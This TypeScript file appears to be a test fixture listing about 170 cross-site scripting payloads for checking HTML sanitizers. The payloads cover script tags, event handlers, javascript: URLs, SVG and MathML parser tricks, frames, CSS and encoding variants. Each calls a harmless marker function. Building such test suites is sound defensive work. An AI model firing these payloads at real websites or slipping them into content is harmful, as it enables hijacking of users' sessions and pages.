/**
 * Texts that try to run script in a page, one a line: script elements, event handlers, addresses, SVG, MathML, frames, meta
 * and base, styles, templates and shadow roots, texts that a second parsing turns into elements, broken markup, escapes for
 * the places where a page puts texts (attributes, JSON, scripts, comments, titles), formulas and DOM names. § is the call
 * that shows that it worked; what the other signs and names in braces stand for is below.
 */
const LINES = String.raw`
<script>§</script>
<scr<script>ipt>§</scr</script>ipt>
<script/x>§</script>
<script type="module">§</script>
<script src="data:text/javascript,§"></script>
<script>§
<<script>§//<</script>
<script xmlns="http://www.w3.org/1999/xhtml">§</script>
<noscript><p title="</noscript><script>§</script>"></noscript>
</p></div></main><script>§</script>
<img src=x onerror=§>
<img src=x ONERROR='§'>
<img src=x onerror=‵§‵>
<img/src=x/onerror=§>
<img⏎src=x⏎onerror⏎=⏎§>
<img src=x onerror␌=§>
<img src="x"onerror="§">
<img """><img src=x onerror=§>">
<img src=x:§ onerror=eval(src.slice(2))>
<img src=x onerror={decimal}>
<img src="/api/images/a.png" onerror="§">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="§" onerror="§">
<image src=x onerror=§>
<audio src=x onerror=§></audio>
<video><source onerror="§"></video>
<body onload=§>
<input autofocus onfocus=§>
<button onclick=§>Go</button>
<p onmouseover=§>x</p>
<p tabindex=1 id=a onfocus=§ autofocus>x</p>
<details open ontoggle=§><summary>x</summary></details>
<dialog open onclose=§><form method=dialog><button>Go</button></form></dialog>
<marquee onstart=§>x</marquee>
<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="§">x</p>
<a href="#" onclick="§">Go</a>
<abbr title="x" onmouseover="§">x</abbr>
<table background="x" onmouseover="§"><tr><td>x</td></tr></table>
<a href="javascript:§">Go</a>
<a href="JaVaScRiPt:§">Go</a>
<a href=" ⏎ javascript:§">Go</a>
<a href="java⏎script:§">Go</a>
<a href="java&#10;script:§">Go</a>
<a href="java&Tab;script:§">Go</a>
<a href="javascript&colon;§">Go</a>
<a href="&#106;avascript:§">Go</a>
<a href="{hex address}">Go</a>
<a href="&#1;javascript:§">Go</a>
<a href="javascript:{percent}">Go</a>
<a href="javascript://x%0a§">Go</a>
<a href="vbscript:§">Go</a>
<a href="data:text/html,{page}">Go</a>
<a href="data:text/html;base64,{base64}">Go</a>
<a href="feed:javascript:§">Go</a>
<form action="javascript:§"><button>Go</button></form>
<form id=f></form><button form=f formaction="javascript:§">Go</button>
<input type=image formaction="javascript:§" src=x>
<img src="javascript:§">
<map name=m><area shape=default href="javascript:§"></map><img usemap=#m src=x>
<a ping="javascript:§" href="#">Go</a>
<blockquote cite="javascript:§">x</blockquote>
[Go](javascript:§)
<svg onload=§>
<svg/onload=§>
<svg><script>§</script></svg>
<svg><script>{hex}</script></svg>
<svg><script href="data:text/javascript,§" /></svg>
<svg><a xlink:href="javascript:§"><text y=20>Go</text></a></svg>
<svg><a href="javascript:§"><text y=20>Go</text></a></svg>
<svg><a><animate attributeName=href values="javascript:§" /><text y=20>Go</text></a></svg>
<svg><animate onbegin=§ attributeName=x dur=1s></svg>
<svg><foreignObject><img src=x onerror=§></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=§></svg>#x" /></svg>
<svg><style><img src=x onerror=§></style></svg>
<svg><image href=x onerror=§ /></svg>
<svg></p><style><a id="</style><img src=x onerror=§>">
<math><mtext><img src=x onerror=§></mtext></math>
<math href="javascript:§">Go</math>
<math><maction actiontype="statusline" xlink:href="javascript:§">Go</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§></style></mglyph></form>
<math><mi><style><img src=x onerror=§></style></mi></math>
<iframe src="javascript:parent.§"></iframe>
<iframe srcdoc="{page}"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.§&gt;"></iframe>
<iframe src="data:text/html,{page}"></iframe>
<iframe onload=§></iframe>
<iframe srcdoc='<svg onload=parent.§>' sandbox="allow-scripts allow-same-origin">
<object data="javascript:§"></object>
<object data="data:text/html,{page}"></object>
<object onerror=§ data=x></object>
<embed src="javascript:§">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>">
<frameset onload=§><frame></frameset>
<meta http-equiv="refresh" content="0;url=javascript:§">
<meta http-equiv="refresh" content="0;url=data:text/html,{page}">
<base href="javascript:§//"><a href="#">Go</a>
<link rel="stylesheet" href="data:text/css,*{}" onload="§">
<style onload=§></style>
<style>*{background:url("javascript:§")}</style>
<style>@import "javascript:§";</style>
<p style="background:url(javascript:§)">x</p>
<p style="width:expression(§)">x</p>
<p style="-moz-binding:url(data:text/xml,§)">x</p>
<template><script>§</script></template>
<template><img src=x onerror=§></template>
<div><template shadowrootmode=open><img src=x onerror=§></template></div>
<noscript><img title="</noscript><img src=x onerror=§>"></noscript>
<textarea><img title="</textarea><img src=x onerror=§>"></textarea>
<title><img title="</title><img src=x onerror=§>"></title>
<style><img title="</style><img src=x onerror=§>"></style>
<noembed><img title="</noembed><img src=x onerror=§>"></noembed>
<plaintext><img src=x onerror=§>
<!--><img src=x onerror=§>-->
<!--<img src="--><img src=x onerror=§>">
<!-- --!><img src=x onerror=§>-->
<![CDATA[<img src=x onerror=§>]]>
<?xml version="1.0"?><img src=x onerror=§>
<!doctype x[<!ENTITY y "<img src=x onerror=§>">]>&y;
<p title="&lt;img src=x onerror=§&gt;">&lt;img src=x onerror=§&gt;</p>
&lt;script&gt;§&lt;/script&gt;
&amp;lt;img src=x onerror=§&amp;gt;
<listing>&lt;img src=x onerror=§&gt;</listing>
<a title="--></script></style></title><img src=x onerror=§>">x</a>
<img alt="‵‵onerror=§" src=x>
<table><td><p></table><img src=x onerror=§>
"><script>§</script>
'><img src=x onerror=§>
" autofocus onfocus="§
' onmouseover='§
</title><script>§</script>
</script><script>§</script>
<!--<script>§
</textarea><img src=x onerror=§>
--><img src=x onerror=§>
]]><script xmlns="http://www.w3.org/1999/xhtml">§</script>
";§;//
';§;//
€{§}
{{constructor.constructor('§')()}}
javascript:§
\u003cimg src=x onerror=§\u003e
␤§¶
$\href{javascript:§}{Go}$
$\url{javascript:§}$
$\htmlData{x="><img src=x onerror=§>}{x}$
$\htmlStyle{background:url(javascript:§)}{x}$
$\includegraphics[alt=x]{javascript:§}$
$\text{<img src=x onerror=§>}$
$x<img src=x onerror=§>$
$$\text{</annotation><script>§</script>}$$
<p>$x</p><img title="$" src=x onerror=§>
<a href="https://example.org/$" title="$ onclick=§ ">Go</a>
<a id=location href="javascript:§">Go</a>
<form name=body><input name=innerHTML value="<img src=x onerror=§>"></form>
`;

const codes = (text: string, write: (code: number) => string) =>
  Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join('');
const hex = (text: string) => codes(text, (code) => `&#x${code.toString(16)};`);
const page = (call: string) => `<script>parent.${call}</script>`;

const meaning = (call: string): Readonly<Record<string, string>> => ({
  '§': call,
  '{page}': page(call),
  '{base64}': Buffer.from(page(call)).toString('base64'),
  '{decimal}': codes(call, (code) => `&#${String(code)};`),
  '{hex}': hex(call),
  '{hex address}': hex(`javascript:${call}`),
  '{percent}': codes(call, (code) => `%${code.toString(16).padStart(2, '0')}`),
  '⏎': '\n',
  '␌': '\f',
  '␤': '\u2028',
  '¶': '\u2029',
  '‵': '`',
  '€': '$',
});

/** Every vector; the one at place n calls `xss(n)` when it works. */
export const XSS_VECTORS: readonly string[] = LINES.trim()
  .split('\n')
  .map((line, index) =>
    Object.entries(meaning(`xss(${index})`)).reduce(
      (text, [sign, meant]) => text.replaceAll(sign, () => meant),
      line,
    ),
  );

/** Vectors that fit a field, in turn: `shortVector(30, n)` is never longer than 30 characters. */
export const shortVector = (limit: number, turn: number): string => {
  const fitting = XSS_VECTORS.filter((vector) => vector.length <= limit);
  return fitting[turn % fitting.length] ?? '<b>';
};
